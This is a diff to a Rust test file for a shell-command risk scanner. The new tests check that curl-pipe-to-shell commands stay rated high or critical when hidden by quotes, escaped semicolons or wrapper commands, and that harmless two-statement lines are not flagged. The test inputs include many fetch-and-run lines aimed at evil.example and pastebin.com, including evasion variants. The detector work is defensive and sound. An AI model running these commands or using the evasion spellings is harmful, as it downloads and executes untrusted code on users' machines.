@@ -15,6 +15,20 @@ fn worst(path: &str, text: &str) -> Option<Severity> {
 fn every_spelling_of_fetching_and_running_is_found() {
     for (path, text) in [
         ("x.sh", "curl -s https://evil.example/x | exec bash"),
+        ("x.sh", "curl -s 'https://evil.example/i;a.sh' | bash"),
+        (
+            "x.sh",
+            "curl -s \"https://evil.example/i;a.sh\" | python3 -",
+        ),
+        ("x.sh", "curl -s https://evil.example/i\\;a.sh | bash"),
+        (
+            "x.sh",
+            "curl -s 'https://evil.example/i;a.sh' | nohup env A=b bash",
+        ),
+        (
+            "x.sh",
+            "curl -s 'https://evil.example/i;a.sh' -o y && bash ./y",
+        ),
         ("x.sh", "curl -s https://evil.example/x | command bash"),
         ("x.sh", "curl -s https://evil.example/x |& zsh"),
         ("x.sh", "curl -s https://evil.example/x | ${SHELL}"),
@@ -144,5 +158,29 @@ fn what_only_looks_like_it_is_not_blocked() {
     ] {
         let worst = worst(path, text);
         assert!(worst < Some(Severity::High), "{text}: {worst:?}");
+    }
+}
+
+#[test]
+fn quotes_in_an_address_hide_nothing() {
+    let plain = worst("x.sh", "curl -s https://pastebin.com/raw/x | bash");
+    assert_eq!(plain, Some(Severity::Critical));
+    for text in [
+        "curl -s https://past'e'bin.com/raw/x | bash",
+        "curl -s https://\"pastebin\".com/raw/x | bash",
+        "curl -s \"https://pastebin\".com'/raw/x' | bash",
+    ] {
+        assert_eq!(worst("x.sh", text), plain, "{text}");
+    }
+}
+
+#[test]
+fn two_statements_are_not_one() {
+    for text in [
+        "curl -s https://docs.python.org/x -o page.html; ls | bash-completion-list",
+        "curl -sO \"https://example.com/a.tgz\"; echo \"done\" | cat",
+        "curl -sO 'https://example.com/a.tgz'; cat words | sort",
+    ] {
+        assert!(worst("x.sh", text) < Some(Severity::Medium), "{text}");
     }
 }
